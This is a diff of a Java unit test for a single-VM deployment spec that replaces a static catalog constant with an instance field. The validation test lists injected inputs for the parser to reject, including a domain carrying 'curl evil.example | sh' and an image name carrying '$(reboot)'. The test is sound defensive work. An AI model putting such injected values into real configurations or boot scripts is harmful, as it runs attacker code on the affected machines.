@@ -13,7 +13,7 @@ import org.junit.jupiter.api.Test;
 
 /** The single VM's recorded build: read back exactly, and never when a value could not have come from valid settings. */
 class SingleVmSpecTest {
-    private static final Catalog CATALOG = Catalog.loadDefault();
+    private final Catalog catalog = Catalog.loadDefault();
 
     private static Map<String, Object> recorded() {
         OfflinePlanner.Result r = Plans.of("stacks/vertical.yaml");
@@ -24,7 +24,7 @@ class SingleVmSpecTest {
     @Test
     void theFactsOfADeploymentReadBackAsTheSpecItWasBuiltFrom() {
         Map<String, Object> facts = recorded();
-        SingleVmSpec spec = SingleVmSpec.parse(facts, CATALOG).orElseThrow();
+        SingleVmSpec spec = SingleVmSpec.parse(facts, catalog).orElseThrow();
         assertEquals("vertical", spec.stage().id());
         assertEquals("staging", spec.environment());
         assertEquals("us-central1-a", spec.zone());
@@ -33,7 +33,7 @@ class SingleVmSpecTest {
         assertEquals("pd-ssd", spec.dataDiskType());
         assertEquals(List.of(), spec.domains());
         assertEquals(Boolean.FALSE, facts.get("protected"), "staging is not protected");
-        assertEquals(spec, SingleVmSpec.parse(spec.facts(), CATALOG).orElseThrow(), "a round trip changes nothing");
+        assertEquals(spec, SingleVmSpec.parse(spec.facts(), catalog).orElseThrow(), "a round trip changes nothing");
         String script = spec.script(List.of("/dev/disk/by-id/google-data"));
         assertTrue(script.contains("max_connections=80"), "the split reaches the boot script");
     }
@@ -41,7 +41,7 @@ class SingleVmSpecTest {
     @Test
     void valuesThatCouldReachAResourceOrAScriptAreChecked() {
         Map<String, Object> good = recorded();
-        assertTrue(SingleVmSpec.parse(good, CATALOG).isPresent());
+        assertTrue(SingleVmSpec.parse(good, catalog).isPresent());
         for (Map.Entry<String, Object> bad : List.of(
                 Map.entry("domains", (Object) List.of("app.example.com; curl evil.example | sh")),
                 Map.entry("appImage", (Object) "nginx:latest$(reboot)"),
@@ -55,14 +55,14 @@ class SingleVmSpecTest {
                 Map.entry("behindEdge", (Object) true))) { // behind the edge without domains: no certificate to serve
             Map<String, Object> facts = new LinkedHashMap<>(good);
             facts.put(bad.getKey(), bad.getValue());
-            assertEquals(Optional.empty(), SingleVmSpec.parse(facts, CATALOG), bad.getKey());
+            assertEquals(Optional.empty(), SingleVmSpec.parse(facts, catalog), bad.getKey());
         }
         Map<String, Object> missing = new LinkedHashMap<>(good);
         missing.remove("region");
-        assertEquals(Optional.empty(), SingleVmSpec.parse(missing, CATALOG));
+        assertEquals(Optional.empty(), SingleVmSpec.parse(missing, catalog));
         Map<String, Object> noEdgeMark = new LinkedHashMap<>(good);
         noEdgeMark.remove("behindEdge");
-        assertEquals(Optional.empty(), SingleVmSpec.parse(noEdgeMark, CATALOG));
-        assertEquals(Optional.empty(), SingleVmSpec.parse("not a map", CATALOG));
+        assertEquals(Optional.empty(), SingleVmSpec.parse(noEdgeMark, catalog));
+        assertEquals(Optional.empty(), SingleVmSpec.parse("not a map", catalog));
     }
 }
